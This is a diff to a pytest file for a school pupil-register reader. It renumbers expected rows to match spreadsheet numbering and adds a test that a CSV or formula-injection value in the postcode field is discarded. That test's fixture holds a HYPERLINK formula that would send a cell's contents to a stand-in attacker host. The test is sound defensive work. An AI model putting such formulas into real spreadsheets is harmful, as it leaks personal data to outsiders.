@@ -19,7 +19,7 @@ def write(tmp_path: Path, text: str, encoding: str = "utf-8") -> Path:
     return path
 
 
-def test_a_clean_csv_is_read_with_rows_numbered_from_one(tmp_path: Path) -> None:
+def test_a_clean_csv_is_read_with_rows_numbered_as_a_spreadsheet_does(tmp_path: Path) -> None:
     path = write(
         tmp_path,
         f"{HEADER}\nR1,Oliver,Smith,2014-05-17,M,A830000000001,1 Mill Lane,DE22 3AB,100001\n"
@@ -27,28 +27,28 @@ def test_a_clean_csv_is_read_with_rows_numbered_from_one(tmp_path: Path) -> None
     )
     extract = read_register(path)
     assert list(extract.records.columns) == list(REGISTER_COLUMNS)
-    assert list(extract.records.index) == [1, 2]
-    assert extract.records.loc[1, "forename"] == "Oliver"
-    assert extract.records.loc[2, "date_of_birth"] == ""
+    assert list(extract.records.index) == [2, 3]  # the header is row 1
+    assert extract.records.loc[2, "forename"] == "Oliver"
+    assert extract.records.loc[3, "date_of_birth"] == ""
     assert extract.rejections == [] and extract.extra_columns == []
 
 
 def test_a_byte_order_mark_is_ignored(tmp_path: Path) -> None:
     path = write(tmp_path, f"\ufeff{HEADER}\nR1,Zoë,Brontë,,,,,,\n")
-    assert read_register(path).records.loc[1, "forename"] == "Zoë"
+    assert read_register(path).records.loc[2, "forename"] == "Zoë"
 
 
 def test_a_windows_1252_file_is_read(tmp_path: Path) -> None:
     path = write(tmp_path, f"{HEADER}\nR1,Zoë,O’Neill,,,,,,\n", encoding="cp1252")
     records = read_register(path).records
-    assert (records.loc[1, "forename"], records.loc[1, "surname"]) == ("Zoë", "O’Neill")
+    assert (records.loc[2, "forename"], records.loc[2, "surname"]) == ("Zoë", "O’Neill")
 
 
 def test_only_ref_forename_and_surname_are_required(tmp_path: Path) -> None:
     path = write(tmp_path, "Surname,REF,Forename,notes\nSmith,R1,Oliver,moved in May\n")
     extract = read_register(path)
-    assert extract.records.loc[1, "postcode"] == ""
-    assert extract.records.loc[1, "notes"] == "moved in May"
+    assert extract.records.loc[2, "postcode"] == ""
+    assert extract.records.loc[2, "notes"] == "moved in May"
     assert extract.extra_columns == ["notes"]
 
 
@@ -73,8 +73,8 @@ def test_only_rows_without_ref_or_anything_to_match_on_are_rejected(tmp_path: Pa
     )
     extract = read_register(path)
     assert [(r.row, r.reason) for r in extract.rejections] == [
-        (1, "ref is blank"),
-        (5, "forename, surname, date_of_birth and upn are all blank: nothing to match on"),
+        (2, "ref is blank"),
+        (6, "forename, surname, date_of_birth and upn are all blank: nothing to match on"),
     ]
     assert list(extract.records["ref"]) == ["R2", "R3", "R4"]
 
@@ -101,9 +101,9 @@ def test_control_characters_and_over_long_values_are_rejected(tmp_path: Path) ->
     )
     extract = read_register(path)
     assert [(r.row, r.reason) for r in extract.rejections] == [
-        (1, "control character in forename"),
-        (2, "surname is longer than 100 characters"),
-        (3, "control character in surname"),
+        (2, "control character in forename"),
+        (3, "surname is longer than 100 characters"),
+        (4, "control character in surname"),
     ]
 
 
@@ -113,16 +113,19 @@ def test_reasons_never_repeat_the_childs_name(tmp_path: Path) -> None:
     assert "Przybylska" not in rejection.reason
 
 
-def test_a_repeated_ref_rejects_the_later_row(tmp_path: Path) -> None:
+def test_a_repeated_ref_rejects_the_later_row_naming_the_first_as_a_spreadsheet_does(
+    tmp_path: Path,
+) -> None:
+    # The header is spreadsheet row 1: the two rows are rows 2 and 3.
     path = write(tmp_path, f"{HEADER}\nR1,Oliver,Smith,,,,,,\nR1,Amelia,Jones,,,,,,\n")
     extract = read_register(path)
-    assert [(r.row, r.reason) for r in extract.rejections] == [(2, "ref repeats row 1")]
+    assert [(r.row, r.reason) for r in extract.rejections] == [(3, "ref repeats row 2")]
 
 
 def test_a_row_with_too_many_values_is_rejected(tmp_path: Path) -> None:
     path = write(tmp_path, "ref,forename,surname\nR1,Oliver,Smith,extra\n")
     (rejection,) = read_register(path).rejections
-    assert rejection.row == 1 and "4 values" in rejection.reason
+    assert rejection.row == 2 and "4 values" in rejection.reason
 
 
 def test_a_bad_date_of_birth_keeps_the_row(tmp_path: Path) -> None:
@@ -134,7 +137,7 @@ def test_a_bad_date_of_birth_keeps_the_row(tmp_path: Path) -> None:
 
 def test_blank_lines_are_skipped_but_counted(tmp_path: Path) -> None:
     path = write(tmp_path, f"{HEADER}\nR1,Oliver,Smith,,,,,,\n\nR3,Ava,Hall,,,,,,\n")
-    assert list(read_register(path).records.index) == [1, 3]
+    assert list(read_register(path).records.index) == [2, 4]
 
 
 def test_an_excel_workbook_is_read_with_dates_as_iso(tmp_path: Path) -> None:
@@ -149,11 +152,11 @@ def test_an_excel_workbook_is_read_with_dates_as_iso(tmp_path: Path) -> None:
 
     extract = read_register(path)
 
-    assert extract.records.loc[1, "date_of_birth"] == "2014-05-17"
-    assert extract.records.loc[1, "school_urn"] == "100001"
-    assert extract.records.loc[1, "year"] == "3.5"
+    assert extract.records.loc[2, "date_of_birth"] == "2014-05-17"
+    assert extract.records.loc[2, "school_urn"] == "100001"
+    assert extract.records.loc[2, "year"] == "3.5"
     assert extract.rejections == []
-    assert extract.missing_fields().loc[2] == 3  # forename, date of birth, postcode
+    assert extract.missing_fields().loc[3] == 3  # forename, date of birth, postcode
 
 
 def test_a_file_that_is_not_a_workbook_is_refused(tmp_path: Path) -> None:
@@ -161,3 +164,19 @@ def test_a_file_that_is_not_a_workbook_is_refused(tmp_path: Path) -> None:
     path.write_text("ref,forename,surname\n")
     with pytest.raises(MatchingInputError):
         read_register(path)
+
+
+def test_a_value_too_long_for_its_format_is_read_as_missing_and_the_row_kept(
+    tmp_path: Path,
+) -> None:
+    formula = '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")"'
+    path = write(
+        tmp_path,
+        f"{HEADER}\nR1,Oliver,Smith,2014-05-17,Prefer not to say,A8300000000012345678901,,"
+        f"{formula},\n",
+    )
+    extract = read_register(path)
+    assert extract.rejections == []
+    row = extract.records.loc[2]
+    assert (row["sex"], row["upn"], row["postcode"]) == ("", "", "")
+    assert extract.missing_fields().loc[2] == 1  # the postcode
